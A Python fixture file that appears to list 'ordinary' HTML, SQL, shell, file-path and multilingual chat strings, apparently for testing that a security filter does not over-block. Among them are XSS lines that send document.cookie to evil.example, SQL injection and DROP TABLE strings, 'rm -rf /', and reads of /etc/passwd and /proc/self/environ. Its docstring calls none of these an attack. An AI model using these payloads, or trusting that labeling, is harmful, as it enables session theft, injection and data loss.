"""What people write about HTML, SQL, shells and files, in lessons, reviews, questions and chats, of many trades and in
many languages. None of these is an attack, though many hold what one is made of: none may be refused."""

LESSONS = """
<script> タグの使い方
C:\\Windows の場所
<script> tag basics
What does <script> do?
Put your <script> at the end of <body>.
Use <script src="app.js"></script> before the closing body tag.
<script src="app.js" defer></script>
<script src="https://cdn.jsdelivr.net/npm/vue@3"></script>
<script type="module" src="/static/main.js"></script>
The <iframe src="https://www.youtube.com/embed/abc"></iframe> element embeds another page.
<iframe width="560" height="315" src="https://www.youtube.com/embed/abc" allowfullscreen></iframe>
<button onclick="save()">Save</button>
<a href="#" onclick="return confirm('Delete?')">Delete</a>
<form onsubmit="alert('sent')"><input name="q"></form>
<button onclick="alert('Hello')">Click me</button>
<script>console.log("hello")</script>
<script>var total = 1 + 1;</script>
document.getElementById("demo").innerHTML = "<b>hi</b>";
<a href="javascript:history.back()"> goes back to the page before this one
Example: <script>fetch('https://evil.example/?c=' + document.cookie)</script> sends the session to somebody else
<script>location='//evil.example/?'+document.cookie</script> のようにしてクッキーが盗まれます
SELECT name FROM users WHERE id = 1 OR 1 = 1
¿Qué hace <script>alert('hola')</script>?
reviewed: <script>alert(1)</script> is escaped
<p onclick="alert('Hi')">Click</p>
'' or 1=1 とは
cd ../../../var/log
php://filter とは
WHERE name = '' OR 1 = 1 は常に真になります
WHERE name='x' OR 'a'='a' is true for every row of the table
or 1=1
1=1
union select
' or
it's null or 'null' -- which one?
<body onload="init()">
Add onclick="alert('Hello')" to the button and it will show a dialog when clicked.
<button onclick="alert('hi')"> shows a dialog; try it in your own browser first
`<img src="cat.png" onerror="this.remove()">` hides broken pictures
<img src="cat.png" onerror="this.style.display='none'">
<a href="javascript:void(0)">open</a>
Never write href="javascript:..." in links; use a button element instead.
javascript:alert(1) をアドレスバーに入力しても動きません
XSS とは <script>alert(1)</script> のような文字列を埋め込む攻撃です
Cross-site scripting means that somebody posts <script>alert(1)</script> and others run it.
El ataque consiste en escribir <script>alert(1)</script> en un comentario público.
Wie kann ich <script>alert('x')</script> in meinem Formular sicher anzeigen?
Pourquoi <img src=x onerror=alert(1)> est-il dangereux dans un commentaire ?
Почему <script>alert(1)</script> опасен в комментариях пользователей?
请问 <script>alert(1)</script> 为什么会被过滤？
댓글에 <script>alert(1)</script> 를 입력하면 왜 위험한가요?
การใส่ <script>alert(1)</script> ในความคิดเห็นอันตรายอย่างไร
<marquee> and <blink> are gone from HTML5
how to center a <div> inside a <div>
<style> と <script> はどこに書く？
<object> や <embed> は古い書き方です
SELECT 文の書き方
SELECT * FROM users WHERE name = 'Bob' OR name = 'Alice'
SELECT id, title FROM works UNION SELECT id, title FROM drafts
SELECT count(*) FROM orders WHERE paid = 1 AND 1=1; -- the old report
UNION SELECT の使い方を教えてください
What is the difference between UNION SELECT 1 and UNION ALL SELECT 1 in practice?
' OR '1'='1 と入力するとログインできてしまう例
The classic example is ' OR '1'='1 in the password field.
If someone types admin'-- as the user name the rest of the query becomes a comment.
インジェクション対策：' OR 1=1 -- のような入力を防ぐ
Bei einer SQL-Injection gibt der Angreifer zum Beispiel ' OR 1=1 -- in das Feld ein.
Une injection SQL typique est ' OR '1'='1 dans le champ du mot de passe.
1 OR 1=1 is always true, so every row is returned
DROP TABLE は取り消せません
Don't run DROP TABLE users; on the production database!
'; DROP TABLE students; -- というのは有名な漫画のネタです
Little Bobby Tables: Robert'); DROP TABLE Students;-- is the joke that everybody in the class knows
delete from cart where id = 3; と書いたのに消えません
The query took 5 s because of SLEEP(5) in the test fixture
select sleep(1) returns 0 in MySQL and that confused the whole team
INSERT INTO t VALUES ('a', 'b'); -- sample data
information_schema.tables lists all tables: select table_name from information_schema.tables
WAITFOR DELAY '0:0:5' pauses a batch in SQL Server for five seconds
ORDER BY 1 sorts by the first column; ORDER BY 2 -- by the second
GROUP BY year HAVING count(*) > 1
having 1=1 in a query is pointless, please remove it
"""

FILES = """
C:\\Windows\\System32
C:\\Windows\\System32\\drivers\\etc\\hosts を管理者として開く
C:\\Windows\\explorer.exe が見つかりません
Open C:\\Windows\\System32\\cmd.exe as administrator
cd C:\\Windows
c:/windows/fonts にフォントを入れる
The installer writes to C:\\Windows\\Temp and never cleans up
C:\\Users\\taro\\Documents\\見積書.xlsx
D:\\work\\..\\backup\\2024
\\\\fileserver\\share\\..\\public
/etc/hosts を編集して 127.0.0.1 を追加
/etc/hosts
Edit /etc/passwd with vipw, never by hand
cat /etc/passwd | cut -d: -f1
grep root /etc/passwd
sudo nano /etc/nginx/nginx.conf
ls -la ../../
cd ../../src && npm test
cp ../../config/app.conf ./app.conf
import { add } from '../../lib/math'
from ..models import User
../../images/cat.png
../../../shared/types.ts
see ../../../docs/README.md for the details
require('../../package.json').version
The path ../../etc is relative to the chroot, not to the root of the host
../.. は二つ上のフォルダです
tar xzf backup.tgz -C ../../restore
rm -rf / --no-preserve-root は絶対に実行しないで
rm -rf ../build; mkdir ../build
chmod 644 ~/.ssh/config && ssh -v host
docker run -v /etc/ssl:/etc/ssl:ro nginx
/proc/self/status shows the memory of a process
/proc/cpuinfo の見方
cat /proc/self/environ | tr '\\0' '\\n' prints the environment of cat itself
find . -name '*.py' -exec grep -n "TODO" {} \\; | head
php://input で生のボディを読み取る方法
file_get_contents('php://input') returns the raw body of the request
.env と .git は公開しないでください
The .git/config file holds the remote's address
mv ../old/* . && rmdir ../old
"""

REVIEWS = """
This should be `if (a || b)`, not `a or b` -- see line 12.
nit: 'x' == "x"; prefer one kind of quotes
You wrote x = '' or y = ''; both are falsy
LGTM -- but rename 'tmp' to something better
Could we write `WHERE id = ?` instead of "WHERE id = '" + id + "'" here?
The test for "O'Brien" fails: the quote isn't escaped; see #123
s/'foo'/"bar"/g; then run the formatter
return a && b || c;
if (user && user.name == 'admin') { allow(); }
const html = '<b>' + name + '</b>'; // escape name first!
element.innerHTML = text is unsafe; use textContent
Please don't use eval("1+1"); parse it instead
console.log("done"); alert("done");
window.location = '/login'; redirects the user
document.cookie is not readable when HttpOnly is set
fetch('/api/works').then(r => r.json())
printf("%s\\n", argv[1]); // no format string here
printf("hello"); # prints hello
for (;;) { sleep(1); }
time.sleep(5)  # wait for the server
git commit -m "fix: don't drop table on rollback"
SELECT を * で書かない -- カラムを明示してください
'a' or 'b'? I'd say 'a'.
a = 'x' and b = 'y'; otherwise c
{"a": "b'c", "d": [1, 2]}
<T extends Foo<Bar>> is too clever
List<Map<String, Integer>> counts = new ArrayList<>();
#include <script.h>
x <script y && z > w
<!-- TODO: remove this comment -->
<?php echo "hello"; ?>
{{ user.name }} と {{ constructor }} の違い
"""

CHATS = """
おはようございます；今日の会議は10時からです
「or」か'and'か迷う
'; -- ' って何の記号？
O'Reilly's "SQL & XML" book -- 2nd edition; page 12
It's 5' -- or 6' -- tall
"To be or not to be" -- Shakespeare
"Less is more." -- Mies van der Rohe
'nuff said; 'twas a joke
He's 6'2" and she's 5'8"; both play
I'd like 2 x 'Large' & 1 x "Small"; thanks -- Ann
Order by 5 pm; pay by 6
1 or 2? 1 and 2!
10 = 10, right? or 11 = 11?
"a"="a" is trivially true
Tom's; Dick's; and Harry's
（水）と（木）は休み；＜お知らせ＞をご覧ください
＜無題＞ -- ２０２４ --
＜script＞ というタイトルの小説を読みました
＂引用＂と＇引用＇
価格；１，０００円（税込）
<3 <3 <3
<(^_^)>
>_< or <_<
;-) or :-)
¯\\_(ツ)_/¯
=SUM(A1:A3); =IF(A1="x","y","z")
-- よろしくお願いします --
-1 or +1?
100% or 50%; your choice
user's name: d'Artagnan; title: 'Count'
¿Cuál es mejor: 'a' o "b"? -- gracias
L'été -- c'est la fête; n'oubliez pas l'eau
Größe '38' oder "40"; Farbe = 'rot'
Ça va? -- Oui; et toi?
Он сказал: "или 'а', или 'б'" -- и ушёл
他说：'是' or '不是'；我不知道
그는 '예' 또는 "아니요" -- 라고 말했다
نعم أو لا؛ "ربما" -- شكرا
"""

TRADES = """
Rx: 1 tab PO q8h or PRN; pt's BP 120/80 -- stable
Diagnosis: R/O 'MI' vs. "angina"; order ECG by 5 pm
Smith v. Jones (1999) -- held: 'or' means "and/or"
§ 5 Abs. 1; Art. 3 -- 'sofort' oder "unverzüglich"
2' x 4' x 8' studs; 16" on center -- or 24"
Room 12'6" x 10' or 3.8 m x 3.0 m; ceiling 8' -- plaster
1/2" copper pipe; 3/4" union; select fittings from stock
Union select committee; delegates from all locals
Group by age; having 2 or more children = discount
Dish: 'pasta' or "pizza"; drop table 5's order -- they left
Insert tab A into slot B; drop the table leg; update the set
Key of C or G; tempo = 120; 'rubato' -- freely
f(x) = x or g(x) = 2x; 0 = 0
If a = b and b = c then a = c; 1 = 1
p < 0.05 or n > 30; 95% CI [1.2; 3.4] -- significant
H0: mu = 0 or mu < 0; alpha = '0.05'
SKU 'A-12'; qty=1 or qty=2; note -- fragile
B/L no. 'X1'; ETA 5 pm; ship by sea or air
飲食店メニュー：'カレー' or "ラーメン"；1=普通、2=大盛
医師コメント：体温=37；脈拍=80 -- 異常なし
不動産：3LDK; 駅徒歩5分 -- '南向き' or "角部屋"
歌詞：'愛' or '夢' -- どちらでもいい；あなたと
"""

PAGES = [
    """<!DOCTYPE html>
<html><body><p id="demo">Hi</p>
<script>document.getElementById("demo").innerHTML = "Hello";</script>
</body></html>""",
    """<ul id="list"></ul>
<script>
  const list = document.querySelector('#list');
  fetch('/api/works').then(r => r.json()).then(works => works.forEach(w => list.append(w.title)));
</script>""",
    """$ mysql -u root
mysql> select * from users where name = '' or 1=1; -- all of them
mysql> drop table users;""",
    """Q: What happens when I enter
' OR '1'='1
as the password?
A: The condition is always true.""",
]

ORDINARY: list[str] = [
    *PAGES,
    *(line for text in (LESSONS, FILES, REVIEWS, CHATS, TRADES) for line in text.strip().splitlines() if line),
]
